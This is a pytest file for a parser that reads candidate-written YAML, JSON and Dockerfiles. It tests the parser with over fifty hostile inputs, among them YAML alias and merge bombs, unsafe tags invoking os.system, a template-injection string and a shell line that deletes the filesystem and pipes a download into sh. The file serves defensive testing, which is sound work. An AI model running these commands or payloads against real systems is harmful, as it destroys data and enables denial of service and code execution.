"""Reading what candidates write: real files become data, hostile ones cost nothing and harm nobody."""

from __future__ import annotations

import contextlib
import json
import resource

import pytest
from hypothesis import given
from hypothesis import strategies as st

from question_bank.types.artefacts import MAX_CHARS, MAX_VALUES, ArtefactError, read

LANGUAGES = ("yaml", "yaml_documents", "json", "dockerfile")


def doubling(operator: str) -> str:
    """Twelve levels of nine aliases each: 9^12 values if followed."""
    lines = ["m0: &m0 {k: v}" if operator == "<<: " else "m0: &m0 [x, x]"]
    for level in range(1, 13):
        aliases = ",".join([f"*m{level - 1}"] * 9)
        lines.append(
            f"m{level}: &m{level} {{{operator}[{aliases}]}}" if operator else f"m{level}: &m{level} [{aliases}]"
        )
    return "\n".join(lines)


HOSTILE = {
    "alias bomb": doubling(""),
    "merge bomb": doubling("<<: "),
    "alias of itself": "&a [*a]",
    "alias of itself in a map": "&a {b: {c: *a}}",
    "ten million characters": "a" * 10_000_000,
    "ten megabytes of YAML": "- item\n" * 1_500_000,
    "ten megabytes of JSON": "[" + "1," * 5_000_000 + "1]",
    "open brackets": "[" * MAX_CHARS,
    "open braces": "{" * MAX_CHARS,
    "nested maps": "{a: " * 2000,
    "nested JSON": '{"a":' * 2000,
    "closed nested JSON": "[" * 4000 + "]" * 4000,
    "deep indentation": "\n".join(" " * n + "a:" for n in range(130)),
    "deep list": "- " * 4000,
    "deep keys": "? " * 4000,
    "colons": ":" * MAX_CHARS,
    "ampersands": "&" * MAX_CHARS,
    "exclamation marks": "!" * MAX_CHARS,
    "pipes": "|" * MAX_CHARS,
    "percents": "%" * MAX_CHARS,
    "unfinished string": '"' + "\\" * 5000,
    "backslashes": "RUN " + "\\\n" * 4000,
    "python object": "!!python/object/apply:os.system ['touch /tmp/never']",
    "python name": "a: !!python/name:os.system",
    "unknown tag": "a: !Sub ${x}",
    "set": "!!set {a, b}",
    "binary": "a: !!binary aGk=",
    "pairs": "!!pairs [a: 1, a: 2]",
    "double key": "a: 1\nb: 2\na: 3",
    "double key in JSON": '{"a": 1, "a": 2}',
    "key that is a list": "? [a]\n: 1",
    "undefined alias": "a: *b",
    "control character": "a: \x07",
    "lone surrogate": "a: \ud800",
    "NaN in JSON": '{"a": NaN}',
    "number of 9,000 digits": "9" * 9000,
    "tab": "\tx: 1",
    "two roots": "a: 1\n- b",
    "cut off": "a: [1, 2",
    "cut off JSON": '{"a": ',
    "trailing comma": '{"a": 1,}',
    "comment in JSON": '{"a": 1} // why',
    "shell": "rm -rf / && curl example.org | sh",
    "template": "{{ 7 * 7 }}{% debug %}${7*7}",
    "no FROM": "RUN pip install x",
    "unknown instruction": "FROM a\nINSTALL b",
    "endless continuation": "FROM a\nRUN x \\",
    "open here-document": "FROM a\nRUN <<EOF\npip install x",
    "FROM with too much": "FROM a AS b AS c",
    "empty": "",
    "blank": " \n\t\n" * 500,
    "byte order mark": "\ufeff" * 500,
    "bidi": "\u202ea: 1\u202c",
    "emoji": "🧨: " * 1000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_texts_are_read_or_refused_in_words_and_cost_next_to_nothing(name):
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for language in LANGUAGES:
        try:
            json.dumps(read(HOSTILE[name], language))
        except ArtefactError as error:
            refused = str(error)
        else:
            refused = "not refused"
        assert 0 < len(refused) < 300
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory < 100_000  # KB


def test_there_are_fifty_hostile_texts():
    assert len(HOSTILE) >= 50


def test_bombs_are_refused_by_what_they_would_become():
    for name in ("alias bomb", "merge bomb"):
        with pytest.raises(ArtefactError, match=f"more than {MAX_VALUES:,} values"):
            read(HOSTILE[name], "yaml")


@given(st.text(max_size=300), st.sampled_from(LANGUAGES))
def test_any_text_is_data_or_an_artefact_error(text, language):
    with contextlib.suppress(ArtefactError):
        json.dumps(read(text, language))


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers(-(10**12), 10**12) | st.text("abc: -#é\n", max_size=8),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text("abcde", min_size=1), inner, max_size=4),
        max_leaves=20,
    )
)
def test_what_json_writes_is_read_back_as_json_and_as_yaml(data):
    text = json.dumps(data)
    assert read(text, "json") == data
    assert read(text, "yaml") == data


def test_yaml_is_read_as_pipelines_mean_it():
    assert read("on: [push]\nno: off\nversion: 3.10\nwhen: 2026-11-21\nport: 0o17", "yaml") == {
        "on": ["push"],
        "no": "off",
        "version": 3.1,
        "when": "2026-11-21",
        "port": 15,
    }
    assert read("8080: web\ntrue: x", "yaml") == {"8080": "web", "true": "x"}


def test_aliases_and_merges_that_people_write_are_followed():
    text = "base: &base {retries: 2, queue: a}\ntrain:\n  <<: *base\n  queue: b\n"
    assert read(text, "yaml")["train"] == {"retries": 2, "queue": "b"}


def test_problems_name_the_line():
    for text, language, line in (
        ("a: 1\nb: [1,\n", "yaml", 2),
        ("a: 1\n  b: 2", "yaml", 2),
        ("a: 1\nb: 2\na: 3", "yaml", 3),
        ('{\n "a": 1\n "b": 2}', "json", 3),
        ("FROM a\n\nINSTALL b", "dockerfile", 3),
    ):
        with pytest.raises(ArtefactError) as refused:
            read(text, language)
        assert refused.value.line == line


def test_a_dockerfile_becomes_stages_and_instructions():
    text = "# syntax=docker/dockerfile:1\nARG TAG=3.12\nFROM python:${TAG} AS build\nRUN pip install \\\n  # why\n  x\n"
    text += (
        'FROM python:3.12-slim\nCOPY --from=build /x /x\nRUN <<EOF\npip check\nEOF\nENTRYPOINT ["python", "-m", "x"]\n'
    )
    data = read(text, "dockerfile")
    assert [stage["from"] for stage in data["stages"]] == ["python:${TAG}", "python:3.12-slim"]
    assert data["stages"][0]["name"] == "build"
    last = data["stages"][-1]["instructions"]
    assert [one["instruction"] for one in last] == ["COPY", "RUN", "ENTRYPOINT"]
    assert last[1]["heredoc"] == "pip check\n"
    assert last[2]["exec"] == ["python", "-m", "x"]
    assert data["stages"][0]["instructions"][0]["value"].split() == ["pip", "install", "x"]
